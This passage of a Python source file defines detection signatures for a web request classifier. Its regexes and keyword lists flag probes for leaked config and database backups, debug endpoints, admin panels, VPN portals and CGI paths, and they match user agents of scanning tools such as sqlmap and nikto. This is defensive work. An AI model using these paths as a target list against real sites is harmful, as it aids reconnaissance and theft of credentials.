            "production prod application bootstrap master serviceaccount serviceaccountkey firebase aws s3 smtp mail sendgrid"
        )
        + _words(
            "twilio stripe constants web machine appsettings docker compose dockerfile terraform tfvars composer service env"
        ),
        "Settings with database passwords or keys, and the copies editors leave of them.",
        "/wp-config.php.bak",
        unless_served=True,
    ),
    Signature(
        "dump-or-backup",
        SENSITIVE_FILE,
        ("path",),
        r"/[\w.-]{0,60}\.(?:sql|sqlite3?|db3?|mdb|bak|dump)(?:\.(?:gz|zip|bz2|xz|7z|tar|rar|tgz))?$"
        r"|/(?:[\w-]{0,20}(?:backup|dump|database|db|bak|www|wwwroot|htdocs|public_html|site|web|website|html|home|old|source|src|"
        r"code|data|mysql|wordpress|wp|full|archive|files|release|latest|app|api)[\w-]{0,20}|[\w-]{1,60}\.(?:com|net|org|io|de))\."
        r"(?:zip|rar|7z|tgz|tar|tar\.gz|tar\.bz2|tar\.xz|gz|bz2)$|\.(?:php\d?|py|rb|js|aspx?|jsp|html?)(?:\.(?:bak|old|save|swp|orig"
        r"|backup|copy|tmp)|~)$|/\.[\w.-]{1,40}\.sw[po]$",
        _words(
            "sql sqlite sqlite3 db db3 mdb bak dump zip rar 7z tgz tar gz bz2 xz old save swp swo orig backup copy tmp"
        )
        + ("~",),
        "A copy of the database or of the site, left where it can be fetched.",
        "/backup/db.sql.gz",
        unless_served=True,
    ),
    Signature(
        "inner-state",
        SENSITIVE_FILE,
        URL,
        r"/(?:php-?info|info|pinfo|infophp|php_info|phpversion|i|test|php|infos|p)\.php\d?$|/server-(?:status|info)$|/actuator/(?:env|heapdump|"
        r"configprops|mappings|threaddump|httptrace|loggers|logfile|beans|trace)\b|^/(?:heapdump|env|trace|configprops)(?:\.json)?$"
        r"|/debug/(?:pprof|vars|default/view)|/_profiler/(?:phpinfo|open|empty)|/(?:laravel|debug|error_log|npm-debug|php_errors?|wp-debug)"
        r"\.log$|/error_log$|/telescope/requests|/storage/logs/|/elmah\.axd|/trace\.axd|/_debugbar/|/nginx_status$|/__debug__/"
        r"|/v1/agent/self$|/api/v1/(?:pods|secrets)\b|/_cat/indices|/\.well-known/\.\.",
        _words(
            "phpinfo info pinfo infophp phpversion i test php infos p server actuator heapdump env trace configprops debug profiler"
        )
        + _words("laravel error npm telescope storage elmah debugbar nginx self pods secrets indices"),
        "Pages that show the server's own state: environment, memory, traces, logs.",
        "/actuator/heapdump",
        unless_served=True,
    ),
    Signature(
        "hidden-file",
        SENSITIVE_FILE,
        ("path",),
        # Names that applications and systems do serve or ask for under a dot are left out.
        r"(?:^|/)\.(?!well-known|netlify|auth|proxy|next|nuxt|vite|vercel|output|storybook|_|ds_store|cache/|client|rest)[a-z][\w.-]{1,40}(?:/|$)",
        ("/.",),
        "Names that begin with a dot are hidden from listings on purpose, and no page links to one.",
        "/.secret-config",
        unless_served=True,
    ),
    # --- software that is not here ----------------------------------------------------------------------------------
    Signature(
        "wordpress",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/wp-(?:login|admin|includes|json|cron|signup|trackback|mail|load|settings|blog-header|comments-post|links-opml|activate)"
        r"|/wp-content/(?!uploads/.*\.(?:jpe?g|png|gif|webp|svg|pdf|mp4)$)|/xmlrpc\.php|/wlwmanifest\.xml|/wp-?\w{0,12}\.php$",
        ("wp", "xmlrpc", "wlwmanifest"),
        "WordPress, its plugins and its doors. Old pictures under uploads are what search engines remember: left out.",
        "/blog/wp-login.php",
        unless_served=True,
    ),
    Signature(
        "admin-panel",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/(?:php-?my-?admin|pma|myadmin|mysql(?:-?admin|manager)?|phppgadmin|pgadmin\d?|adminer|dbadmin|sqladmin|websql|sqlweb)[\w.-]*(?:/|$)"
        r"|/administrator/|/admin(?:istrator)?/(?:config|db|phpmyadmin|pma|sqladmin|includes|fckeditor|elfinder|controller)|/admin\.(?:php|aspx?"
        r"|jsp|cgi)|/(?:cpanel|whm|plesk|webmin|directadmin|vestacp|ispconfig|manager/html|host-manager|jmx-console|web-console"
        r"|zabbix|nagios|cacti|grafana/login|kibana|app/kibana|solr/admin|hudson|jenkins|script$|rabbitmq|portainer|netdata)\b",
        _words(
            "phpmyadmin phpmyadmin2 phpmyadmin2017 pma myadmin mysql mysqladmin mysqlmanager phppgadmin pgadmin pgadmin4 adminer"
        )
        + _words(
            "dbadmin sqladmin websql sqlweb administrator admin cpanel whm plesk webmin directadmin vestacp ispconfig"
        )
        + _words(
            "manager jmx console zabbix nagios cacti grafana kibana solr hudson jenkins script rabbitmq portainer netdata"
        )
        + ("myadmin", "my-admin", "phpmy"),
        "Panels for administering databases and hosts.",
        "/phpMyAdmin-5.1/index.php",
        unless_served=True,
    ),
    Signature(
        "web-mail-and-vpn",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/owa(?:/|$)|/ecp(?:/|$)|/autodiscover/|/ews/|/roundcube|/webmail(?:/|$)|/zimbra|/squirrelmail|/\+csco[et]\+|/remote/login|/dana-na/"
        r"|/global-protect/|/ssl-vpn/|/vpn/index|/tmui/login|/logon/logonpoint|/citrix/|/rdweb|/remoteweb|/sra_\{|/sslvpn|/my\.policy"
        r"|/cgi-bin/authlogin|/cgi/networkdiag|/setup\.cgi|/webfig/|/doc/page/login|/hnap1|/owncloud/|/nextcloud/status|/evox/about"
        r"|/geoserver/|/vcenter|/sdk$|/ui/login\.action|/login\.action$|/server-info\.action|/dashboard/login\.php|/teorema505",
        _words(
            "owa ecp autodiscover ews roundcube webmail zimbra squirrelmail cscoe cscot remote dana global ssl vpn tmui logon"
        )
        + _words(
            "citrix rdweb remoteweb sra sslvpn policy authlogin networkdiag setup webfig login hnap1 owncloud nextcloud evox"
        )
        + _words("geoserver vcenter sdk action teorema505"),
        "Mail, remote access and network appliances: what a scanner that maps the internet asks every host for.",
        "/+CSCOE+/logon.html",
        unless_served=True,
    ),
    Signature(
        "cgi-program",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/cgi-bin/[\w./-]{1,80}|/cgi-sys/|/cgi-mod/|/scripts/\w{1,30}\.(?:cgi|pl|exe)|/_vti_(?:bin|pvt|inf)|/nph-test-cgi|/printenv",
        ("cgi", "cgi-bin", "vti", "scripts", "printenv"),
        "Programs of the first web servers, still asked for because they were so often open.",
        "/cgi-bin/test-cgi",
        unless_served=True,
    ),
    Signature(
        "content-management",
        FOREIGN_SOFTWARE,
        ("path",),
        r"/(?:typo3|joomla|drupal|magento|prestashop|opencart|oscommerce|moodle|vbulletin|phpbb\d?|mantis|bitrix|umbraco|sitecore|dotnetnuke"
        r"|concrete5|modx|sitefinity|craft|kentico|whmcs|thinkphp|laravel|symfony|codeigniter|yii)(?:/|\.php|$)|/(?:fck|ck)editor/"
        r"|/elfinder|/kcfinder|/filemanager/|/vendor/(?:composer|phpunit|laravel|autoload)|/sites/(?:default|all)/|/core/install\.php|/install\.php$"
        r"|/components/com_|/modules/mod_|/plugins/(?:content|system)/|/user/register$|/index\.php/admin",
        _words(
            "typo3 joomla drupal magento prestashop opencart oscommerce moodle vbulletin phpbb phpbb2 phpbb3 mantis bitrix umbraco"
        )
        + _words(
            "sitecore dotnetnuke concrete5 modx sitefinity craft kentico whmcs thinkphp laravel symfony codeigniter yii"
        )
        + _words("fckeditor ckeditor elfinder kcfinder filemanager vendor sites install com mod plugins php register"),
        "Other shops, forums and frameworks, and the editors and uploads they bring.",
        "/sites/default/files/",
        unless_served=True,
    ),
    # --- agents that say what they are ------------------------------------------------------------------------------
    Signature(
        "attack-tool",
        SCANNER_AGENT,
        ("agent",),
        r"\b(?:nikto|sqlmap|nuclei|wpscan|dirbuster|gobuster|dirb|feroxbuster|ffuf|fuzz faster|wfuzz|acunetix|netsparker|invicti|nessus|openvas"
        r"|w3af|arachni|skipfish|havij|zmeu|jorgee|morfeus|hydra|medusa|whatweb|joomscan|commix|xsser|paros|appscan|webinspect|burp"
        r"|grendel|metis|pangolin|bsqlbf|absinthe|fhscan|masscan|zgrab|libredtail|mozi|hello,? world|l9explore|l9tcpid|lkxscan|"
        r"gh0st|sipvicious|dirsearch|jaeles|interactsh|katana|httpx|xray|pocsuite|goby|fuff)\b",
        _words(
            "nikto sqlmap nuclei wpscan dirbuster gobuster dirb feroxbuster ffuf fuzz wfuzz acunetix netsparker invicti nessus openvas"
        )
        + _words(
            "w3af arachni skipfish havij zmeu jorgee morfeus hydra medusa whatweb joomscan commix xsser paros appscan webinspect"
        )
        + _words(
            "burp grendel metis pangolin bsqlbf absinthe fhscan masscan zgrab libredtail mozi hello l9explore l9tcpid lkxscan gh0st"
        )
        + _words("sipvicious dirsearch jaeles interactsh katana xray pocsuite goby fuff"),
        "A tool for finding or using holes that did not trouble to hide its name.",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    ),
)
